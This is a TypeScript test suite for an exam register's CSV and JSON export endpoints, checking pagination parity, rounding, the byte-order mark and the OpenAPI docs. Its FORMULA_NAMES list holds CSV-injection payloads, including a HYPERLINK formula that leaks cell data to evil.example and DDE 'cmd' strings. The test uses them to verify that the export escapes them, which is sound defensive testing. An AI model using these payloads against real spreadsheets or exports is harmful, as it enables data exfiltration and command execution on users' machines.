import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { APPOINTMENT_COLUMNS, RESULT_COLUMNS, VACANCY_COLUMNS } from '../../server/modules/register/register.export';
import type { AppointmentItem, Page, ResultItem, VacancyItem } from '../../server/modules/register/register.schemas';
import { advanceVacancy, NAMES, recordAppointments, recordVacancies } from '../factories/register';
import { finishedSitting, publishResults } from '../factories/results';
import { EXAM_ENV, examBank, staffMember } from '../factories/sittings';
import { createTestApp, request, type TestApp } from '../helpers/app';

const DAY = 86_400_000;
const BASE = Date.parse('2026-04-01T09:30:00Z');

let t: TestApp;

const FORMULA_NAMES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Aliyev")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

beforeAll(async () => {
  t = await createTestApp(EXAM_ENV);
  const admin = await staffMember(t, 'administrator');
  const bank = await examBank(t);
  const sitting = await finishedSitting(t, admin, bank, [
    { correct: 4 },
    { correct: 1 },
    { correct: 3 },
    { correct: 3 },
  ]);
  await publishResults(t, admin, sitting.sitting.id);
  // Names with the characters CSV must quote: a comma, a quote, and a line break.
  await recordAppointments(t, [
    ...NAMES.map((fullName, i) => ({
      fullName,
      appointedAt: new Date(BASE + (i % 7) * DAY),
      finalScore: 60 + (i % 4),
    })),
    { fullName: 'Əliyev, "Kiçik" Nərmin', appointedAt: new Date(BASE) },
    { fullName: 'Алиев\nТимур', appointedAt: new Date(BASE + DAY) },
    // Names a spreadsheet would run as formulas (CSV injection).
    ...FORMULA_NAMES.map((fullName, i) => ({ fullName, appointedAt: new Date(BASE + (i + 2) * DAY) })),
    // Scores with more decimals than a page shows: a decimal half (1.005 is 1.00499… in binary) and a third.
    { fullName: 'Kəsrli Bal', appointedAt: new Date(BASE + 3 * DAY), finalScore: 71.005 },
    { fullName: 'Üçdəbir Bal', appointedAt: new Date(BASE + 4 * DAY), finalScore: 200 / 3 },
  ]);
  const vacancies = await recordVacancies(
    t,
    Array.from({ length: 5 }, (_, i) => ({ announcedAt: new Date(BASE + i * DAY) })),
  );
  await advanceVacancy(t, vacancies[1]!, 'appointed', new Date(BASE + 9 * DAY), {
    reserve: [{ rank: 2, candidateCode: 'ACDE3467', finalScore: 70.25 }],
  });
});
afterAll(() => t.close());

async function pages<T>(path: string, query: Record<string, string>): Promise<T[]> {
  const items: T[] = [];
  let cursor: string | null = null;
  do {
    const params: URLSearchParams = new URLSearchParams({ ...query, limit: '4', ...(cursor ? { cursor } : {}) });
    const response = await request(t.app, { method: 'GET', url: `${path}?${params}` });
    expect(response.statusCode, response.body).toBe(200);
    const page: Page<T> = response.json<Page<T>>();
    items.push(...page.items);
    cursor = page.nextCursor;
  } while (cursor);
  return items;
}

async function download(url: string, type: string) {
  const response = await request(t.app, { method: 'GET', url });
  expect(response.statusCode, response.body).toBe(200);
  expect(response.headers['content-type']).toBe(`${type}; charset=utf-8`);
  expect(String(response.headers['content-disposition'])).toMatch(/^attachment; filename="imtahan-register-/);
  return response.body;
}

/**
 * A list item as its CSV row reads: every cell text, localised fields per language, lists as JSON, and
 * text that a spreadsheet would take for a formula (starting with = + - @, a tab or a CR) behind a `'`.
 */
function csvRowOf<I>(item: I, columns: [string, (item: I) => string | number | boolean | null][]) {
  return Object.fromEntries(
    columns.map(([header, get]) => {
      const value = get(item);
      return [header, typeof value === 'string' && /^[=+\-@\t\r]/.test(value) ? `'${value}` : String(value ?? '')];
    }),
  );
}

const KINDS = [
  {
    name: 'appointments',
    columns: APPOINTMENT_COLUMNS,
    queries: [
      {},
      { q: 'Aliyev' },
      { agency: 'SN', sort: '-score' },
      { category: 'AB', from: '2026-04-02', to: '2026-04-05', sort: 'date' },
      { sort: 'name' },
      { q: 'nosuchname' },
    ],
  },
  {
    name: 'results',
    columns: RESULT_COLUMNS,
    queries: [{}, { sort: '-points' }, { q: 'A' }, { sort: 'points', category: 'AB' }],
  },
  {
    name: 'vacancies',
    columns: VACANCY_COLUMNS,
    queries: [{}, { status: 'appointed' }, { sort: 'deadline', agency: 'ETN' }, { q: 'Ведущий' }],
  },
] as const;

describe('exports equal the paginated API', () => {
  for (const kind of KINDS)
    for (const query of kind.queries)
      it(`${kind.name} ${JSON.stringify(query)}: the same rows in the same order, as JSON and as CSV`, async () => {
        const path = `/api/register/${kind.name}`;
        const listed = await pages<AppointmentItem | ResultItem | VacancyItem>(path, query);
        const search = new URLSearchParams(query).toString();
        const json = JSON.parse(await download(`${path}.json?${search}`, 'application/json')) as unknown[];
        expect(json).toEqual(listed);
        const csv = await download(`${path}.csv?${search}`, 'text/csv');
        expect(csv.split('\r\n')[0]).toBe(kind.columns.map(([header]) => header).join(','));
        const rows = parse(csv, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
        expect(rows).toEqual(
          listed.map((item) => csvRowOf(item, kind.columns as unknown as [string, (i: typeof item) => string][])),
        );
        if (kind.name === 'appointments' && !('q' in query)) expect(listed.length).toBeGreaterThan(0);
        for (const row of rows) {
          expect(row.logIndex).toMatch(/^\d+$/);
          expect(row.leafHash).toMatch(/^('\+|[A-Za-z0-9/])[A-Za-z0-9+/]{42}=$/);
        }
      });

  it('writes a name a spreadsheet would run as a formula as text in CSV, and as it is in JSON', async () => {
    const csv = await download('/api/register/appointments.csv?sort=name', 'text/csv');
    const rows = parse(csv, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
    const names = rows.map((r) => r.fullName);
    for (const name of FORMULA_NAMES) {
      expect(names).toContain(`'${name}`);
      expect(names).not.toContain(name);
    }
    // Every cell of every line: nothing a spreadsheet would evaluate.
    for (const record of parse(csv, { record_delimiter: '\r\n' }) as string[][])
      for (const value of record) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    // Numbers stay numbers: scores are not prefixed.
    expect(rows.every((r) => /^\d+(\.\d+)?$/.test(r.finalScore!))).toBe(true);
    const json = JSON.parse(await download('/api/register/appointments.json?sort=name', 'application/json')) as {
      fullName: string;
    }[];
    for (const name of FORMULA_NAMES) expect(json.map((a) => a.fullName)).toContain(name);
  });

  it('streams in batches: every batch seam keeps the order and loses no row', async () => {
    const listed = await pages<AppointmentItem>('/api/register/appointments', { sort: '-score' });
    for (const batch of [1, 2, 3, 7, 100]) {
      const streamed: AppointmentItem[] = [];
      for await (const rows of t.services.register.exportAppointments({ sort: '-score' }, batch))
        streamed.push(...rows);
      expect(streamed, `batches of ${batch}`).toEqual(listed);
    }
  });

  it('rounds points as the pages show them, in the page, the CSV and the JSON alike', async () => {
    const listed = await pages<AppointmentItem>('/api/register/appointments', { q: 'Bal', sort: 'name' });
    expect(listed.map((a) => [a.fullName, a.finalScore])).toEqual([
      ['Kəsrli Bal', 71.01],
      ['Üçdəbir Bal', 66.67],
    ]);
    const json = JSON.parse(await download('/api/register/appointments.json?q=Bal&sort=name', 'application/json')) as {
      finalScore: number;
    }[];
    expect(json.map((a) => a.finalScore)).toEqual([71.01, 66.67]);
    const csv = await download('/api/register/appointments.csv?q=Bal&sort=name', 'text/csv');
    const rows = parse(csv, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
    expect(rows.map((r) => r.finalScore)).toEqual(['71.01', '66.67']);
    // The log keeps the score as it was computed; only what the register shows is rounded.
    const entry = await request(t.app, { method: 'GET', url: `/api/log/entries/${listed[1]!.logIndex}` });
    expect((JSON.parse(entry.json<{ entryText: string }>().entryText) as { finalScore: number }).finalScore).toBe(
      200 / 3,
    );
  });

  it('starts the CSV with a byte-order mark for spreadsheets on ?bom=1, and only then', async () => {
    for (const kind of ['appointments', 'results', 'vacancies']) {
      const plain = await request(t.app, { method: 'GET', url: `/api/register/${kind}.csv?sort=date` });
      const forExcel = await request(t.app, { method: 'GET', url: `/api/register/${kind}.csv?sort=date&bom=1` });
      expect(plain.rawPayload.subarray(0, 3).toString('hex'), kind).not.toBe('efbbbf');
      expect(forExcel.rawPayload.subarray(0, 3).toString('hex'), kind).toBe('efbbbf');
      expect(forExcel.rawPayload.subarray(3).equals(plain.rawPayload), kind).toBe(true);
      expect(forExcel.headers['content-type'], kind).toBe('text/csv; charset=utf-8');
      const zero = await request(t.app, { method: 'GET', url: `/api/register/${kind}.csv?sort=date&bom=0` });
      expect(zero.rawPayload.equals(plain.rawPayload), kind).toBe(true);
    }
    // A spreadsheet library that honours the mark reads the names back letter for letter.
    const csv = (await request(t.app, { method: 'GET', url: '/api/register/appointments.csv?q=Bal&bom=1' })).body;
    const rows = parse(csv, { columns: true, bom: true, record_delimiter: '\r\n' }) as Record<string, string>[];
    expect(rows.map((r) => r.fullName).sort()).toEqual(['Kəsrli Bal', 'Üçdəbir Bal']);
    expect(Object.keys(rows[0]!)[0]).toBe('id');
  });

  it('refuses bad filters before it starts streaming', async () => {
    for (const url of [
      '/api/register/appointments.csv?from=2026-04-09&to=2026-04-01',
      '/api/register/appointments.json?cursor=abc',
      '/api/register/results.csv?agency=SN',
      '/api/register/vacancies.json?status=hidden',
      '/api/register/appointments.csv?sort=random',
      '/api/register/appointments.csv?bom=yes',
      '/api/register/results.json?bom=1',
    ]) {
      const response = await request(t.app, { method: 'GET', url });
      expect(response.statusCode, url).toBe(400);
      expect(response.headers['content-type'], url).toMatch(/^application\/json/);
    }
  });
});

describe('the OpenAPI document', () => {
  it('documents every register route, the streams as text of their media type', async () => {
    const response = await request(t.app, { method: 'GET', url: '/api/docs/json' });
    expect(response.statusCode).toBe(200);
    const paths = response.json<{
      paths: Record<string, { get?: { responses: Record<string, unknown>; parameters?: { name: string }[] } }>;
    }>().paths;
    for (const kind of ['appointments', 'results', 'vacancies']) {
      const list = paths[`/api/register/${kind}`]!.get!;
      expect(list.parameters!.map((p) => p.name)).toEqual(
        expect.arrayContaining(['q', 'category', 'from', 'to', 'sort', 'cursor', 'limit']),
      );
      expect((list.responses['200'] as { content: Record<string, unknown> }).content['application/json']).toBeDefined();
      for (const [format, type] of [
        ['csv', 'text/csv'],
        ['json', 'application/json'],
      ] as const) {
        const stream = paths[`/api/register/${kind}.${format}`]!.get!;
        const content = (stream.responses['200'] as { content: Record<string, { schema: { type: string } }> }).content;
        // CSV is text; the JSON export is an array of the list's items, which generated clients can type.
        expect(content[type]!.schema.type, `${kind}.${format}`).toBe(format === 'csv' ? 'string' : 'array');
        expect(stream.parameters!.map((p) => p.name)).not.toContain('cursor');
        if (format === 'csv') expect(stream.parameters!.map((p) => p.name)).toContain('bom');
        else expect(stream.parameters!.map((p) => p.name)).not.toContain('bom');
      }
    }
    expect(paths['/api/register/appointments']!.get!.parameters!.map((p) => p.name)).toContain('agency');
    expect(paths['/api/register/appointments/{id}']).toBeDefined();
    expect(paths['/api/register/results/{candidateCode}']).toBeDefined();
    expect(paths['/api/register/vacancies/{id}']).toBeDefined();
    expect(paths['/api/register/statistics']).toBeDefined();
  });
});
